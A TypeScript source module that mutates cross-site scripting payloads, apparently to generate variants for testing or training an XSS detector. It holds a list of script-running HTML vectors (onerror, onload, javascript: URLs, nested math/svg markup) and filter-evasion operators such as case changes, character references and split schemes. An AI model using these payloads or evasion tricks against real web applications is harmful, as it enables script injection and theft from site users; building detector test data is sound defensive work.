/** Operators on decoded cross-site scripting payloads: markup, and the scripts in it. */
import type { Random } from "../../src/random.ts";
import { anyCase, oneOf, operator, replaceSome } from "./operator.ts";
import { dialogCall, otherCall } from "./script.ts";
import { fewWords, goodWords, someWords } from "./words.ts";

/** An opening tag and its attributes, as far as they hold no `>`. */
const openingTag = /<([a-z][a-z0-9:-]{0,20})([\s/][^<>]{0,400})?>/gi;
const handler = /\bon[a-z]{3,24}(?=\s*=)/gi;
const handlerValue = /(\bon[a-z]{3,24}\s*=\s*)("[^"]{1,300}"|'[^']{1,300}'|[^\s"'<>=`]{1,300})/gi;

/** The script that a payload runs, without the markup around it. */
function scriptOf(payload: string): string | undefined {
  const inTag = /<script[^>]{0,100}>([^<]{1,300})<\/script/i.exec(payload)?.[1];
  const inHandler = new RegExp(handlerValue.source, "i").exec(payload)?.[2]?.replace(/^["']|["']$/g, "");
  const inAddress = /javascript:([^"'<>\s]{1,200})/i.exec(payload)?.[1];
  const call = dialogCall.exec(payload)?.[0];
  return inTag ?? inHandler ?? inAddress ?? call;
}

/** Elements that run a script by themselves; `$` stands for it. */
const vectors: readonly string[] = [
  "<img src=x onerror=$>",
  "<svg onload=$>",
  "<svg><g onload=$></g></svg>",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<svg><set onbegin=$ attributename=x>",
  "<svg><image href=x onerror=$>",
  "<body onload=$>",
  "<body onpageshow=$>",
  "<input autofocus onfocus=$>",
  "<select autofocus onfocus=$>",
  "<textarea autofocus onfocus=$>",
  "<button autofocus onfocus=$>",
  "<a href=x autofocus tabindex=1 onfocus=$>x</a>",
  "<xss autofocus tabindex=1 onfocus=$>",
  "<details open ontoggle=$>",
  "<video src=x onerror=$>",
  "<video><source onerror=$>",
  "<audio src=x onerror=$>",
  "<input type=image src=x onerror=$>",
  "<object data=x onerror=$>",
  "<embed src=x onload=$>",
  "<iframe onload=$>",
  "<iframe srcdoc='<svg onload=$>'>",
  "<style onload=$>p{}</style>",
  "<link rel=stylesheet href=data:, onload=$>",
  "<script>$</script>",
  "<script src=data:,$></script>",
  "<svg><script>$</script></svg>",
  "<iframe src=javascript:$>",
  "<math><mtext><img src=x onerror=$></mtext></math>",
  "<math><mi><style><img src=x onerror=$></style></mi></math>",
  "<template><s></template><img src=x onerror=$>",
  "<marquee onstart=$>x</marquee>",
  "<style>@keyframes q{}</style><b style=animation-name:q onanimationstart=$>x</b>",
  "<table background=x><tr><td><img src=x onerror=$>",
  "<picture><source srcset=x><img onerror=$></picture>",
];

const passiveAttributes = [
  "class",
  "title",
  "alt",
  "data-note",
  "aria-label",
  "lang",
  "name",
  "style",
  "id",
  "rel",
  "placeholder",
];

/** A harmless attribute; its words may need quotes. Advances the generator. */
function attribute(random: Random): string {
  const name = oneOf(random, passiveAttributes);
  const quote = oneOf(random, ['"', '"', "'"]);
  return random.below(4) === 0
    ? `${name}=${oneOf(random, goodWords)}`
    : `${name}=${quote}${someWords(random, 1 + random.below(14))}${quote}`;
}

/** A character as an HTML character reference. Advances the generator. */
function reference(character: string, random: Random): string {
  const code = character.codePointAt(0)!;
  const named: Readonly<Record<string, string>> = {
    "(": "&lpar;",
    ")": "&rpar;",
    ":": "&colon;",
    "=": "&equals;",
    "'": "&apos;",
    '"': "&quot;",
  };
  return oneOf(random, [
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `&#X${code.toString(16)};`,
    `&#0000${code};`,
    named[character] ?? `&#${code};`,
  ]);
}

/** Operators on decoded cross-site scripting payloads. */
export const markupOperators = [
  operator("html-case", (payload, random) =>
    replaceSome(payload, /<\/?[a-z]+|\bon[a-z]+(?=\s*=)|javascript(?=:)/gi, random, ([name]) =>
      anyCase(name, random),
    ),
  ),
  operator("html-vector-swap", (payload, random) => {
    const script = scriptOf(payload);
    if (script === undefined || script.includes(">")) return undefined;
    const before = /^[^<]*(?=<)/.exec(payload)?.[0] ?? "";
    const vector = oneOf(random, vectors);
    const unquoted = !/[\s"'=`]/.test(script);
    const quote = unquoted ? "" : script.includes('"') ? "'" : '"';
    const isText = vector.includes(">$<");
    return before + vector.replace("$", () => (isText ? script : quote + script + quote));
  }),
  operator("html-event-swap", (payload, random) =>
    replaceSome(payload, handler, random, ([name]) => {
      const group = [
        ["onerror"],
        ["onload", "onpageshow"],
        ["onfocus", "onfocusin"],
        ["onclick", "onmousedown", "onpointerup", "onauxclick"],
        ["onmouseover", "onmouseenter", "onpointerover", "onpointerenter", "onmousemove"],
      ].find((events) => events.includes(name.toLowerCase()));
      return group === undefined ? name : oneOf(random, group);
    }),
  ),
  operator("html-attribute-before", (payload, random) =>
    replaceSome(
      payload,
      /(?<=<[a-z][a-z0-9:-]{0,20})(?=[\s/][^<>]{0,400}>?)/gi,
      random,
      () => ` ${attribute(random)}`,
    ),
  ),
  operator("html-attribute-between", (payload, random) =>
    replaceSome(payload, /(?<=[\s/])(?=\bon[a-z]{3,24}\s*=)/gi, random, () => `${attribute(random)} `),
  ),
  operator("html-attribute-behind", (payload, random) =>
    replaceSome(
      payload,
      openingTag,
      random,
      ([, name, rest]) => `<${name}${rest ?? ""} ${attribute(random)}>`,
    ),
  ),
  operator("html-other-blank", (payload, random) =>
    replaceSome(payload, /(?<=<[^<>]{1,200})[ \t\n\r\f/]+(?=[a-z])/gi, random, () =>
      oneOf(random, ["/", "\n", "\t", "\f", "\r\n", "  ", " / ", "//"]),
    ),
  ),
  operator("html-blank-at-equals", (payload, random) =>
    replaceSome(payload, /(?<=\bon[a-z]{3,24}|src|href)\s*=\s*/gi, random, () =>
      oneOf(random, [" =", "= ", " = ", "\n=\n", "\t=", "=\f", "="]),
    ),
  ),
  operator("html-quotes", (payload, random) =>
    replaceSome(payload, handlerValue, random, ([, name, value]) => {
      const bare = value!.replace(/^["']|["']$/g, "");
      const quote = oneOf(random, ['"', "'", ""]);
      return bare.includes(quote === "" ? " " : quote) ? `${name}${value}` : name + quote + bare + quote;
    }),
  ),
  operator("html-references", (payload, random) =>
    replaceSome(payload, handlerValue, random, ([, name, value]) => {
      const share = 1 + random.below(4);
      return (
        name +
        Array.from(value!, (character, index) =>
          index === 0 || index === value!.length - 1 || random.below(share) > 0
            ? character
            : reference(character, random),
        ).join("")
      );
    }),
  ),
  operator("html-scheme-blank", (payload, random) =>
    replaceSome(payload, /javascript(?=:)/gi, random, ([scheme]) => {
      const at = 1 + random.below(scheme.length - 1);
      return (
        scheme.slice(0, at) +
        oneOf(random, ["\t", "\n", "&Tab;", "&NewLine;", "&#9;", "&#x0a;"]) +
        scheme.slice(at)
      );
    }),
  ),
  operator("script-other-call", (payload, random) =>
    payload.replace(dialogCall, (_, name: string, __, argument?: string, text?: string) =>
      otherCall(name, argument ?? text ?? "", random),
    ),
  ),
  operator("script-comment", (payload, random) =>
    replaceSome(
      payload,
      /(?<=[\w\])])(?=[([.;=+])|(?<=[;(=+,])(?=[\w['(])/g,
      random,
      () => `/*${random.below(2) === 0 ? "" : fewWords(random)}*/`,
    ),
  ),
  operator("script-words-before", (payload, random) =>
    replaceSome(
      payload,
      /\b(?:alert|confirm|prompt|print|eval)\b/g,
      random,
      ([name]) =>
        oneOf(random, [`'${fewWords(random)}';`, `note="${fewWords(random)}";`, `/*${fewWords(random)}*/`]) +
        name,
    ),
  ),
  operator("script-line-comment", (payload, random) => `${payload}//${fewWords(random)}`),
  operator("html-text-before", (payload, random) => `${someWords(random, 1 + random.below(20))} ${payload}`),
  operator("html-text-behind", (payload, random) => `${payload} ${someWords(random, 1 + random.below(20))}`),
  operator(
    "html-markup-before",
    (payload, random) =>
      oneOf(random, [
        `<p>${fewWords(random)}</p>`,
        `<b>${fewWords(random)}</b> `,
        `<br>`,
        `<!-- ${fewWords(random)} -->`,
        `<div class="${fewWords(random)}">`,
      ]) + payload,
  ),
  operator("html-open-end", (payload, random) =>
    payload.replace(/>[^<>]{0,60}$/, () =>
      oneOf(random, [" ", "//", ` title="${fewWords(random)}`, `\n<p>${fewWords(random)}</p>`]),
    ),
  ),
];
